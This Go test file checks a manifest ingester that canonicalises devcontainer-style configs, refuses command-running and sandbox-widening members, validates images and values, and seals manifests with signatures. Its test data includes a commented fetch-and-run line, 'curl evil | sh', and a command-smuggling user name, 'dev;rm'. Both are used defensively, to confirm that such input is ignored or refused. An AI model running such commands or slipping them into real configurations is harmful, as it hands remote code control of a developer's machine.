package environment

import (
	"encoding/base64"
	"errors"
	"strings"
	"testing"

	"github.com/cordon-dev/cordon/evidence/canon"
	"github.com/cordon-dev/cordon/evidence/sign"
)

const digest = "sha256:0f3c1a2b4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8"

const img = "registry.example/team/go:1.26@" + digest

func mustIngest(t *testing.T, src string) *Manifest {
	t.Helper()
	m, err := Ingest([]byte(src))
	if err != nil {
		t.Fatalf("Ingest(%s): %v", src, err)
	}
	return m
}

// TestAddressInvariant: the address does not depend on member order,
// whitespace, comments or trailing commas, and does depend on content.
func TestAddressInvariant(t *testing.T) {
	a := mustIngest(t, `{"image": "`+img+`", "containerEnv": {"A": "1", "B": "2"}, "remoteUser": "dev", "workspaceFolder": "/workspaces/app"}`)
	b := mustIngest(t, `// the team's environment
{
	/* users first */
	"remoteUser": "dev",
	"workspaceFolder": "/workspaces/app", // where the code is
	"containerEnv": {
		"B": "2",
		"A": "1", // trailing comma next
	},
	"image": "`+img+`",
}
`)
	if a.ID() != b.ID() {
		t.Fatalf("same content, different address: %s vs %s\n%s\n%s", a.ID(), b.ID(), a.JCS(), b.JCS())
	}
	c := mustIngest(t, `{"image": "`+img+`", "containerEnv": {"A": "1", "B": "3"}, "remoteUser": "dev", "workspaceFolder": "/workspaces/app"}`)
	if c.ID() == a.ID() {
		t.Fatal("different content, same address")
	}
	want := `{"container_env":{"A":"1","B":"2"},"image":"` + img + `","remote_user":"dev","type":"cordon.env.v1","workspace_folder":"/workspaces/app"}`
	if got := string(a.JCS()); got != want {
		t.Fatalf("JCS:\n got %s\nwant %s", got, want)
	}
	if a.ID() != canon.Sum([]byte(want)) {
		t.Fatal("ID is not the ContentId of the JCS form")
	}
}

// TestComments: text that looks like a comment inside a string is kept;
// a member inside a comment is not a member.
func TestComments(t *testing.T) {
	m := mustIngest(t, `{"image": "`+img+`", "containerEnv": {"URL": "http://x//y /* z */"},
	// "postCreateCommand": "curl evil | sh",
	}`)
	if m.ContainerEnv["URL"] != "http://x//y /* z */" {
		t.Fatalf("string altered: %q", m.ContainerEnv["URL"])
	}
	for _, src := range []string{
		`{"image": "` + img + `" /* unterminated`,
		`{"image": "` + img + `",, }`,
		`{"image": "` + img + `"} trailing`,
		`[{"image": "` + img + `"}]`,
		`{"image": "` + img + `", /**/ "image": "` + img + `"}`, // duplicate once comments are gone
	} {
		if _, err := Ingest([]byte(src)); !errors.Is(err, ErrInvalid) {
			t.Errorf("Ingest(%s) = %v, want ErrInvalid", src, err)
		}
	}
	_, err := Ingest([]byte(`{"image": "` + img + `", /**/ "image": "` + img + `"}`))
	if !errors.Is(err, canon.ErrDuplicateKey) {
		t.Errorf("duplicate member hidden by a comment: %v, want a duplicate-key error", err)
	}
}

// TestRefusesExecutingAndWidening: every member that runs commands or
// widens the sandbox is refused, naming the member, even beside valid ones
// and whatever its value.
func TestRefusesExecutingAndWidening(t *testing.T) {
	names := Refused()
	if len(names) < 25 {
		t.Fatalf("only %d refused members", len(names))
	}
	for _, must := range []string{"initializeCommand", "onCreateCommand", "updateContentCommand", "postCreateCommand",
		"postStartCommand", "postAttachCommand", "runArgs", "privileged", "capAdd", "securityOpt", "mounts", "init",
		"features", "build", "dockerComposeFile", "workspaceMount", "forwardPorts", "userEnvProbe"} {
		if _, ok := refused[must]; !ok {
			t.Errorf("%s is not refused", must)
		}
	}
	for _, name := range names {
		for _, val := range []string{`"x"`, `["a","b"]`, `{}`, `false`, `null`} {
			src := `{"image": "` + img + `", "` + name + `": ` + val + `}`
			_, err := Ingest([]byte(src))
			if !errors.Is(err, ErrRefused) || !strings.Contains(err.Error(), `"`+name+`"`) {
				t.Errorf("Ingest with %s=%s: %v, want ErrRefused naming it", name, val, err)
			}
		}
	}
	// A refused member is refused even when another member is also wrong.
	if _, err := Ingest([]byte(`{"unknownThing": 1, "privileged": true}`)); !errors.Is(err, ErrRefused) {
		t.Errorf("privileged beside an unknown member and no image: %v", err)
	}
}

// TestRefusesUnknown: an unknown member, or a known one in another case,
// is refused, never dropped.
func TestRefusesUnknown(t *testing.T) {
	for _, src := range []string{
		`{"image": "` + img + `", "extensions": []}`,
		`{"image": "` + img + `", "Image": "x"}`,
		`{"image": "` + img + `", "containerenv": {}}`,
		`{"image": "` + img + `", "POSTCREATECOMMAND": "x"}`,
	} {
		_, err := Ingest([]byte(src))
		if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), "unknown member") {
			t.Errorf("Ingest(%s) = %v, want an unknown-member error", src, err)
		}
	}
}

func TestImage(t *testing.T) {
	good := []string{
		img,
		"docker.io/library/debian@" + digest,
		"localhost/x@" + digest,
		"localhost:5000/a/b-c/d__e:v1.2@" + digest,
		"[::1]:5000/x@" + digest,
		"registry.example/x@sha512:" + strings.Repeat("ab", 64),
	}
	for _, ref := range good {
		if _, err := Ingest([]byte(`{"image": "` + ref + `"}`)); err != nil {
			t.Errorf("image %s: %v", ref, err)
		}
	}
	bad := map[string]string{
		"registry.example/team/go:1.26":                              "not pinned",
		"debian@" + digest:                                           "registry",
		"library/debian@" + digest:                                   "registry",
		"registry.example/team/go@sha256:abc":                        "image reference",
		"registry.example/team/go@sha256:" + strings.Repeat("A", 64): "image reference",
		"registry.example/Team/go@" + digest:                         "image reference",
		"registry.example/team/go@md5:" + strings.Repeat("a", 32):    "image reference",
		"registry.example/team/go@" + digest + "\n":                  "control character",
		"registry.example/team/../go@" + digest:                      "image reference",
		"":                                                           "required",
		" registry.example/x@" + digest:                              "image reference",
	}
	for ref, want := range bad {
		_, err := Ingest([]byte(`{"image": ` + jsonString(ref) + `}`))
		if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), want) {
			t.Errorf("image %q: %v, want ErrInvalid mentioning %q", ref, err, want)
		}
	}
	if _, err := Ingest([]byte(`{"name": "x"}`)); !errors.Is(err, ErrInvalid) {
		t.Errorf("no image: %v", err)
	}
}

func jsonString(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r < 0x20:
			b.WriteString(`\u00`)
			b.WriteByte("0123456789abcdef"[r>>4])
			b.WriteByte("0123456789abcdef"[r&15])
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}

// TestValues: substitutions, NUL, bad names, paths and users are refused.
func TestValues(t *testing.T) {
	bad := map[string]string{
		`"containerEnv": {"HOME": "${localEnv:HOME}"}`:           "substitution",
		`"remoteEnv": {"P": "a${containerEnv:PATH}"}`:            "substitution",
		`"workspaceFolder": "${localWorkspaceFolder}"`:           "substitution",
		`"containerEnv": {"A": "x\u0000y"}`:                      "NUL",
		`"containerEnv": {"1A": "x"}`:                            "variable name",
		`"containerEnv": {"A=B": "x"}`:                           "variable name",
		`"containerEnv": {"A": 1}`:                               "string",
		`"remoteEnv": {"A": null}`:                               "string",
		`"containerEnv": ["A=1"]`:                                "object",
		`"workspaceFolder": "work"`:                              "absolute",
		`"workspaceFolder": "/w/../etc"`:                         "absolute",
		`"workspaceFolder": "/w/"`:                               "absolute",
		`"workspaceFolder": "/"`:                                 "absolute",
		`"remoteUser": "Root"`:                                   "user name",
		`"remoteUser": "dev;rm"`:                                 "user name",
		`"containerUser": ""`:                                    "",
		`"name": "a\u001b[2Jb"`:                                  "control character",
		`"customizations": []`:                                   "object",
		`"customizations": {"vscode": {"settings": {"x": 1.5}}}`: "integer",
	}
	for members, want := range bad {
		_, err := Ingest([]byte(`{"image": "` + img + `", ` + members + `}`))
		if members == `"containerUser": ""` {
			// An empty user is the same as none: accepted, not recorded.
			if err != nil {
				t.Errorf("%s: %v", members, err)
			}
			continue
		}
		if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v, want ErrInvalid mentioning %q", members, err, want)
		}
	}
	// Dollar signs that are not substitutions are values like any other.
	m := mustIngest(t, `{"image": "`+img+`", "containerEnv": {"PS1": "$ ", "COST": "$5"}, "remoteUser": "1000"}`)
	if m.ContainerEnv["PS1"] != "$ " || m.RemoteUser != "1000" {
		t.Fatalf("values altered: %+v", m)
	}
}

// TestParse: a manifest reads back only in exactly the form JCS writes.
func TestParse(t *testing.T) {
	m := mustIngest(t, `{"name": "app", "image": "`+img+`", "containerEnv": {"A": "1"}, "customizations": {"vscode": {"extensions": ["golang.go"]}}, "remoteEnv": {}}`)
	j := m.JCS()
	if strings.Contains(string(j), "remote_env") {
		t.Fatalf("empty remoteEnv recorded: %s", j)
	}
	back, err := Parse(j)
	if err != nil {
		t.Fatalf("Parse(JCS): %v", err)
	}
	if back.ID() != m.ID() {
		t.Fatal("round trip changed the address")
	}
	bad := []string{
		strings.Replace(string(j), `{"container_env"`, `{ "container_env"`, 1), // not JCS
		strings.Replace(string(j), `"type":"cordon.env.v1"`, `"type":"cordon.env.v2"`, 1),
		strings.Replace(string(j), `"name":"app"`, `"name":"app","remote_env":{}`, 1), // empty member
		strings.Replace(string(j), `"container_env"`, `"containerEnv"`, 1),            // devcontainer spelling
		strings.Replace(string(j), `"name":"app"`, `"name":"app","privileged":true`, 1),
		`{"image":"` + img + `"}`, // no type
		string(j) + "\n",
	}
	for _, s := range bad {
		if _, err := Parse([]byte(s)); !errors.Is(err, ErrInvalid) {
			t.Errorf("Parse(%s) = %v, want ErrInvalid", s, err)
		}
	}
}

// TestSeal: a signed manifest opens only with its key and unaltered.
func TestSeal(t *testing.T) {
	k, err := sign.Generate()
	if err != nil {
		t.Fatal(err)
	}
	other, err := sign.Generate()
	if err != nil {
		t.Fatal(err)
	}
	m := mustIngest(t, `{"image": "`+img+`"}`)
	env := m.Seal(k)
	got, err := Open(env, k.Public())
	if err != nil || got.ID() != m.ID() {
		t.Fatalf("Open: %v", err)
	}
	if _, err := Open(env, other.Public()); err == nil {
		t.Fatal("opened with another key")
	}
	// A different payload under the original signature.
	m2 := mustIngest(t, `{"image": "`+img+`", "remoteUser": "root"}`)
	forged := strings.Replace(string(env), b64(m.JCS()), b64(m2.JCS()), 1)
	if forged == string(env) {
		t.Fatal("test did not alter the payload")
	}
	if _, err := Open([]byte(forged), k.Public()); !errors.Is(err, sign.ErrBadSignature) {
		t.Fatalf("forged payload: %v, want ErrBadSignature", err)
	}
	// A signed grant set or receipt is not a manifest.
	if _, err := Open(sign.Seal(k, "application/vnd.cordon.grants.v1+json", m.JCS()), k.Public()); err == nil {
		t.Fatal("opened an envelope of another payload type")
	}
}

// FuzzIngest: Ingest never panics, and whatever it accepts has a manifest
// that parses back to the same address.
func FuzzIngest(f *testing.F) {
	f.Add([]byte(`{"image": "` + img + `", "containerEnv": {"A": "1"}, // c
	}`))
	f.Add([]byte(`{"image": "` + img + `", "customizations": {"x": [1, {"y": null}]}, "workspaceFolder": "/w"}`))
	f.Add([]byte(`{"postCreateCommand": "x"}`))
	f.Add([]byte(`/* */ {"image": "docker.io/a/b@` + digest + `", "remoteUser": "0"}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		m, err := Ingest(data)
		if err != nil {
			if !errors.Is(err, ErrInvalid) && !errors.Is(err, ErrRefused) {
				t.Fatalf("error of no kind: %v", err)
			}
			return
		}
		back, err := Parse(m.JCS())
		if err != nil {
			t.Fatalf("accepted %q but its manifest does not parse: %v\n%s", data, err, m.JCS())
		}
		if back.ID() != m.ID() {
			t.Fatalf("round trip changed the address")
		}
	})
}

func b64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

// TestScannerBounds: nesting is bounded before the JSON-with-comments
// parser (which recurses per level) sees the input; brackets and quotes
// inside comments and strings do not count.
func TestScannerBounds(t *testing.T) {
	deep := strings.Repeat("[", 1<<19)
	if _, err := Ingest([]byte(`{"image": "` + img + `", "customizations": {"x": ` + deep + `}}`)); !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), "nesting deeper") {
		t.Fatalf("deep nesting: %v", err)
	}
	ok := `{
	// a quote " and brackets [[[[ {{{{ in a comment
	/* "more" ]]]] */
	"image": "` + img + `", "name": "[[[[\"{{{{"
}`
	m, err := Ingest([]byte(ok))
	if err != nil || m.Name != `[[[["{{{{` {
		t.Fatalf("comments and strings: %v %+v", err, m)
	}
}
